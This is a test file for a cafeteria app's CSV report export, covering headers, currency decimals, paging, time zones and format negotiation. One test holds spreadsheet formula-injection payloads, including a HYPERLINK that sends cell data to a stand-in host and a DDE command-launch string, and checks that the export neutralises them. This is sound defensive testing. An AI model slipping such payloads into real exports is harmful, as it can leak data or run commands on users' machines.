import { sql } from 'kysely'
import t from 'tap'
import { startTestApp } from '../app.ts'
import { openBusyKitchen } from '../busy-day.ts'

type Test = Parameters<typeof startTestApp>[0]

async function openFiles(t: Test) {
  const test = await startTestApp(t)
  const kitchen = await openBusyKitchen(test.owner)
  await test.rollUp()
  const headers = test.as({ userId: kitchen.cafeteriaId, role: 'admin' })
  const ask = (report: string, query: Record<string, string> = {}, more: Record<string, string> = {}) =>
    test.call({
      url: `/v1/reports/${report}`,
      headers: { ...headers, ...more },
      query: { cafeteriaId: kitchen.cafeteriaId, from: '2026-11-16', to: '2026-11-23', ...query },
    })
  return { ...test, kitchen, ask }
}

const asFile = { format: 'csv' }
/** The lines of a file, without the byte order mark, its last line, and the moment in that. */
function linesOf(t: Test, file: string): string[] {
  t.ok(file.startsWith('\ufeff'), 'it begins with a byte order mark')
  const lines = file.slice(1).split('\r\n')
  t.equal(lines.pop(), '', 'the last line has an end')
  t.match(
    lines.pop(),
    new RegExp(`^# complete, ${lines.length - 1} rows, as of 20\\d\\d-\\d\\d-\\d\\dT[0-9:.]+\\+00:00$`),
  )
  return lines
}

t.test('a report as a file has decimal amounts, their currency, and a last line', async (t) => {
  const { ask } = await openFiles(t)
  const { status, body, headers } = await ask('sales', { ...asFile, by: 'week' })
  t.equal(status, 200)
  t.match(headers, {
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': 'attachment; filename="sales-2026-11-16-2026-11-23.csv"',
    'cache-control': 'no-store',
    vary: 'accept, accept-encoding',
  })
  t.same(linesOf(t, body), [
    'from,to,currency,placed,items,gross,rejected,cancelled,lost,sales,averageOrder,captured,refunded,kept,visits,newCustomers',
    '2026-11-16,2026-11-22,"MXN",1,1,65.00,0,0,0.00,65.00,65.00,65.00,0.00,65.00,1,1',
    '2026-11-23,2026-11-23,"MXN",3,4,260.00,1,0,65.00,195.00,86.67,130.00,65.00,65.00,2,1',
  ])
  const preparation = await ask('preparation', { ...asFile, from: '2026-11-17', to: '2026-11-17' })
  t.same(
    linesOf(t, preparation.body),
    ['from,to,ready,averageSeconds,p50Seconds,p90Seconds,p99Seconds', '2026-11-17,2026-11-17,0,,,,'],
    'nothing is an empty cell, and without money there is no currency',
  )
})

t.test('a file of many periods is read page by page', async (t) => {
  const { ask, statements } = await openFiles(t)
  statements.length = 0
  const { body } = await ask('no-shows', { ...asFile, from: '2026-01-01', to: '2026-12-31' })
  const lines = linesOf(t, body)
  t.equal(lines.length, 1 + 365)
  t.same(
    lines.slice(1).map((line) => line.slice(0, 10)),
    Array.from({ length: 365 }, (_, day) => new Date(Date.UTC(2026, 0, 1 + day)).toISOString().slice(0, 10)),
  )
  t.equal(
    lines.find((line) => line.startsWith('2026-11-23')),
    '2026-11-23,2026-11-23,2,1,0,0.0000',
  )
  t.equal(statements.filter(({ text }) => text.includes('string_agg')).length, Math.ceil(366 / 31))
})

t.test('amounts have as many decimals as their currency', async (t) => {
  const { ask, owner, kitchen, rollUp } = await openFiles(t)
  for (const [currency, gross] of [
    ['JPY', '6500'],
    ['KWD', '6.500'],
  ]) {
    await sql`update cafeterias set currency = ${currency} where id = ${kitchen.cafeteriaId}`.execute(owner)
    await rollUp()
    const { body } = await ask('products', { ...asFile, to: '2026-11-16' })
    t.match(linesOf(t, body)[1], `,"${currency}",${kitchen.productId},"Chilaquiles",1,${gross},`)
  }
})

t.test('no cell of a file is a formula', async (t) => {
  const { ask, owner, kitchen, rollUp } = await openFiles(t)
  const names = {
    '=HYPERLINK("http://evil.test?"&A1;"Total")': `"'=HYPERLINK(""http://evil.test?""&A1;""Total"")"`,
    "+1+cmd|' /C calc'!A0": `"'+1+cmd|' /C calc'!A0"`,
    '-2+3': `"'-2+3"`,
    '@SUM(A1)': `"'@SUM(A1)"`,
    '\t=1': `"'\t=1"`,
    '\r=1': `"'\r=1"`,
    '  =1': `"'  =1"`,
    '＝1': `"'＝1"`,
    'Café, "doble" = 2': `"Café, ""doble"" = 2"`,
    '5 = cinco': '"5 = cinco"',
  }
  for (const [name, cell] of Object.entries(names)) {
    await sql`update products set name = ${name} where id = ${kitchen.productId}`.execute(owner)
    await rollUp()
    const { body } = await ask('products', { ...asFile, to: '2026-11-16' })
    t.ok(body.includes(`,${cell},1,65.00,0,0.00,65.00\r\n`), JSON.stringify(name))
  }
})

t.test('orders are a file with a line for each, in the time zone of the cafeteria', async (t) => {
  const { ask, owner, kitchen, rollUp } = await openFiles(t)
  const { status, body, headers } = await ask('orders')
  t.equal(status, 200)
  t.match(headers, { 'content-type': 'text/csv; charset=utf-8; header=present' })
  const [header, ...lines] = linesOf(t, body)
  t.equal(
    header,
    'createdAt,id,number,userId,status,paymentMethod,currency,total,refunded,pickupAt,promisedAt,placedAt,startedAt,readyAt,closedAt',
  )
  const cells = lines.map((line) => line.split(','))
  t.same(
    cells.map(([createdAt, , , , status, method, currency, total, refunded]) => [
      createdAt,
      status,
      method,
      currency,
      total,
      refunded,
    ]),
    [
      ['"2026-11-16T09:30:00-06:00"', 'collected', 'wallet', 'MXN', '65.00', '0.00'],
      ['"2026-11-23T09:10:00-06:00"', 'collected', 'wallet', 'MXN', '65.00', '0.00'],
      ['"2026-11-23T09:39:00-06:00"', 'ready', 'card', 'MXN', '130.00', '0.00'],
      ['"2026-11-23T12:05:00-06:00"', 'rejected', 'wallet', 'MXN', '65.00', '65.00'],
      ['"2026-11-23T13:00:00-06:00"', 'expired', 'card', 'MXN', '65.00', '0.00'],
    ],
  )
  t.equal(cells.at(-1)?.at(-2), '', 'what never happened is an empty cell')
  const { rows } = await sql<{ number: number }>`
    select number from orders where cafeteria_id = ${kitchen.cafeteriaId} order by created_at`.execute(owner)
  t.same(
    cells.map(([, , number]) => Number(number)),
    rows.map(({ number }) => number),
  )
  t.same(linesOf(t, (await ask('orders', { from: '2026-11-17', to: '2026-11-22' })).body).length, 1)

  await sql`update cafeterias set time_zone = 'Asia/Kolkata' where id = ${kitchen.cafeteriaId}`.execute(owner)
  await rollUp()
  const elsewhere = await ask('orders', { to: '2026-11-16' })
  t.match(linesOf(t, elsewhere.body)[1], /^"2026-11-16T21:00:00\+05:30"/)
})

t.test('what the client prefers decides between JSON and a file, unless `format` does', async (t) => {
  const { ask } = await openFiles(t)
  for (const [accept, format, type] of [
    ['text/csv', undefined, 'text/csv'],
    ['application/json, text/csv', undefined, 'application/json'],
    ['application/json;q=0.5, text/csv', undefined, 'text/csv'],
    ['text/csv;q=0.1, */*', undefined, 'application/json'],
    ['*/*', undefined, 'application/json'],
    ['text/csv', 'json', 'application/json'],
    ['application/json', 'csv', 'text/csv'],
  ] as const) {
    const { status, headers } = await ask('refunds', format === undefined ? {} : { format }, { accept })
    t.equal(status, 200)
    t.match(headers['content-type'], type, `${accept} ${format}`)
  }
})
